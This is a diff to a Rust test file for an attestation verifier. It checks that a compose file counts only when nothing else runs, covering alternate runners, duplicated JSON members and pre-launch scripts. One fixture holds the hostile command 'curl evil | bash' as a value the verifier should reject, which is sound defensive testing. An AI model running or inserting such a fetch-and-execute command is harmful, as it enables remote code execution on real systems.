@@ -2,7 +2,9 @@
 
 use std::fmt::Write as _;
 
-use super::machine::{APP_ID, COMPOSE_FILE, Machine, NONCE};
+use cloister_app_compose::ComposeHash;
+
+use super::machine::{APP_ID, COMPOSE, COMPOSE_FILE, Machine, NONCE};
 use crate::appraisal::{
     Appraisal, ClaimId, Connection, Expectations, ExpectedCompose, ExpectedRegisters, Nonce, Outcome, Stage,
 };
@@ -61,6 +63,49 @@ fn a_compose_file_is_looked_for_in_the_measured_document() {
     let appraisal = machine.appraise(&silent, &expect(COMPOSE_FILE));
     assert!(!appraisal.verified, "an expectation that cannot be compared is not met");
     assert_eq!(appraisal.claim(ClaimId::Compose).unwrap().outcome, Outcome::NotChecked);
+}
+
+#[test]
+fn a_compose_file_counts_only_when_it_is_what_runs() {
+    let judge = |document: &str| {
+        let mut machine = Machine::new();
+        let at = machine.at("compose-hash");
+        let hash = ComposeHash::of(document.as_bytes());
+        machine.events[at].payload = hash.as_bytes().to_vec();
+        machine.mr_config_id[1..33].copy_from_slice(hash.as_bytes());
+        let mut evidence = machine.evidence();
+        evidence.document.app_compose = Some(document.to_owned());
+        let expected = Expectations {
+            compose: Some(ExpectedCompose::ComposeFile(COMPOSE_FILE.to_owned())),
+            ..Expectations::default()
+        };
+        let claim = machine.appraise(&evidence, &expected).claim(ClaimId::Compose).unwrap().clone();
+        (claim.outcome, claim.sentence)
+    };
+    let with = |name: &str, value: serde_json::Value| {
+        let mut document: serde_json::Value = serde_json::from_str(COMPOSE).unwrap();
+        document[name] = value;
+        document.to_string()
+    };
+    assert_eq!(judge(COMPOSE).0, Outcome::Holds);
+    assert!(judge(COMPOSE).1.contains("no script runs before it"));
+
+    // The file stands there, and something else runs.
+    let mut script: serde_json::Value = serde_json::from_str(COMPOSE).unwrap();
+    script["runner"] = "bash".into();
+    script["bash_script"] = "curl evil | bash".into();
+    assert_eq!(judge(&script.to_string()).0, Outcome::Fails);
+    assert_eq!(judge(&with("runner", "other".into())).0, Outcome::Fails);
+    assert_eq!(judge(&with("runner", serde_json::Value::Null)).0, Outcome::Fails);
+    // Readers differ in which of two members counts.
+    let twice = COMPOSE.replacen('{', r#"{"docker_compose_file":"services: {}","#, 1);
+    assert_eq!(judge(&twice).0, Outcome::Fails);
+
+    for script in ["init_script", "pre_launch_script"] {
+        let (outcome, sentence) = judge(&with(script, "echo".into()));
+        assert_eq!(outcome, Outcome::Holds);
+        assert!(sentence.contains("A SCRIPT RUNS BEFORE IT"), "{script}: {sentence}");
+    }
 }
 
 #[test]
